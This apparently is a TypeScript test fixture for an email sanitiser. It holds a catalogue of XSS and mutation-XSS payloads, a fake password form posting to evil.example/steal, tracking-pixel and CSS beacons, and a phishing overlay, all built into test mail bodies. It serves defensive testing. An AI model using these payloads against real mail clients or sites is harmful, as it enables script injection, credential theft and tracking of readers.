// What attackers have written into mails, one mail a family. `RUN` stands for code that says it has run; `HOST` for a
// foreign host that must not hear from us. Sources: the OWASP filter-evasion collection, the published mutation
// attacks on sanitisers (mXSS: namespaces, noscript, templates, comments), and the tricks of tracking mails.
const run = `try{top.kontuarRan=(top.kontuarRan||0)+1}catch(e){};new Image().src='https://ran.example/x';alert(1)`
const code = encodeURIComponent(run)

export interface Family { subject: string; vectors: string[] }

export const families: readonly Family[] = [
  {
    subject: 'Scripts and handlers',
    vectors: [
      '<script>RUN</script>', '<script src="https://HOST/a.js"></script>', '<SCRIPT\n>RUN</SCRIPT >', '<scr<script>ipt>RUN</scr</script>ipt>', '<script type="module">RUN</script>',
      '<img src=x onerror="RUN">', '<img src=x onerror=RUN//', '<img/src=x/onerror=RUN>', '<IMG SRC=x OnErRoR="RUN">', '<img src="x" onerror\n=\n"RUN">', '<img src=x \u0000onerror="RUN">',
      '<body onload="RUN">', '<body onpageshow="RUN">', '<div onmouseover="RUN" style="position:fixed;inset:0">hover</div>', '<input autofocus onfocus="RUN">', '<details open ontoggle="RUN"><summary>x</summary></details>',
      '<video src=x onerror="RUN"></video>', '<audio src=x onerror="RUN"></audio>', '<marquee onstart="RUN">x</marquee>', '<a id=x tabindex=1 onfocus="RUN" autofocus>x</a>', '<style onload="RUN">p{}</style>',
      '<div style="animation:a 1s" onanimationstart="RUN">x</div><style>@keyframes a{from{opacity:0}}</style>', '<textarea autofocus onfocus="RUN"></textarea>', '<select autofocus onfocus="RUN"></select>',
    ],
  },
  {
    subject: 'Addresses that are code',
    vectors: [
      '<a href="javascript:RUN">click</a>', '<a href="JaVaScRiPt:RUN">click</a>', '<a href="java\tscript:RUN">click</a>', '<a href="&#106;avascript:RUN">click</a>', '<a href="\u0001javascript:RUN">click</a>', '<a href="vbscript:RUN">click</a>',
      '<a href="data:text/html,<script>RUN</script>">click</a>', '<img src="javascript:RUN">', '<iframe src="javascript:RUN"></iframe>', '<area href="javascript:RUN" shape=default>', '<a xlink:href="javascript:RUN">click</a>',
      '<form action="javascript:RUN"><button>go</button></form>', '<button formaction="javascript:RUN">go</button>', '<base href="https://HOST/">', '<a href="/api/v1/session" target="_top">relative</a>',
    ],
  },
  {
    subject: 'Frames, forms and objects',
    vectors: [
      '<iframe srcdoc="<script>RUN</script>"></iframe>', '<iframe src="https://HOST/frame"></iframe>', '<object data="https://HOST/o"></object>', '<object data="data:text/html,<script>RUN</script>"></object>', '<embed src="https://HOST/e">',
      '<form action="https://HOST/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>', '<meta http-equiv="refresh" content="0;url=https://HOST/refresh">', '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
      '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<link rel="stylesheet" href="https://HOST/s.css">', '<link rel="prefetch" href="https://HOST/p">', '<link rel="dns-prefetch" href="//HOST">', '<portal src="https://HOST/portal"></portal>', '<applet code="x" codebase="https://HOST/"></applet>', '<frameset><frame src="javascript:RUN"></frameset>',
    ],
  },
  {
    subject: 'Other namespaces and mutations',
    vectors: [
      '<svg onload="RUN"></svg>', '<svg><script>RUN</script></svg>', '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>', '<svg><animate onbegin="RUN" attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x"></use></svg>',
      '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>', '<svg></p><style><a id="</style><img src=1 onerror=RUN>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>', '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<!--><img src=x onerror=RUN>-->', '<!-- --!><img src=x onerror=RUN> -->', '<template><img src=x onerror=RUN></template>',
      '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>', '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>', '<title><p title="</title><img src=x onerror=RUN>"></title>', '<plaintext><img src=x onerror=RUN>', '<![CDATA[<img src=x onerror=RUN>]]>', '<math href="javascript:RUN">click</math>',
    ],
  },
  {
    subject: 'Styles and pictures that call home',
    vectors: [
      '<p style="background:url(https://HOST/bg)">x</p>', '<p style="background-image:u\\72l(https://HOST/escaped)">x</p>', '<style>@import "https://HOST/i.css";</style>', '<style>@font-face{font-family:a;src:url(https://HOST/f)}p{font-family:a}</style><p>x</p>', '<style>body{background:url(//HOST/b)}</style>',
      '<p style="width:expression(RUN)">x</p>', '<p style="-moz-binding:url(https://HOST/x.xml)">x</p>', '<p style="list-style:url(https://HOST/l)">x</p>', '<p style="cursor:url(https://HOST/c),auto">x</p>', '<p style="content:url(https://HOST/n)">x</p>',
      '<img src="https://HOST/pixel.gif" width=1 height=1>', '<img srcset="https://HOST/2x.png 2x">', '<picture><source srcset="https://HOST/s.png"><img src="https://HOST/i.png"></picture>', '<table background="https://HOST/t.png"><tr><td background="https://HOST/td.png">x</td></tr></table>', '<video poster="https://HOST/poster.png"></video>',
      '<audio src="https://HOST/a.mp3" autoplay></audio>', '<input type="image" src="https://HOST/in.png">', '<img lowsrc="https://HOST/low.png" dynsrc="https://HOST/dyn">', '<svg><image href="https://HOST/svg.png"></image></svg>', '<p style="background:image-set(url(https://HOST/set) 1x)">x</p>',
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">Your session has expired</div>',
    ],
  },
]

export const vectorCount = families.reduce((sum, { vectors }) => sum + vectors.length, 0)

/** The vectors of a family, told apart by their number, as the body of a mail. `RUN` and `HOST` filled in. */
export function bodyOf({ vectors }: Family): string {
  const filled = vectors.map((vector, index) => `<p>Vector ${index}</p>\n${fill(vector)}`)
  return `<html><body>\n${filled.join('\n')}\n<p>The end of the mail</p></body></html>`
}

/** Each vector alone, so that none hides behind the unclosed element of another. */
export const alone = (vector: string): string => `<html><body><p>Before</p>${fill(vector)}</body></html>`

function fill(vector: string): string {
  const quoted = /"[^"]*RUN/.test(vector) ? run.replaceAll('"', '&quot;') : `eval(decodeURIComponent(/${code.replaceAll('/', '%2F').replaceAll("'", '%27')}/.source))`
  return vector.replaceAll('RUN', vector.includes('<script') ? run : quoted).replaceAll('HOST', 'evil.example')
}
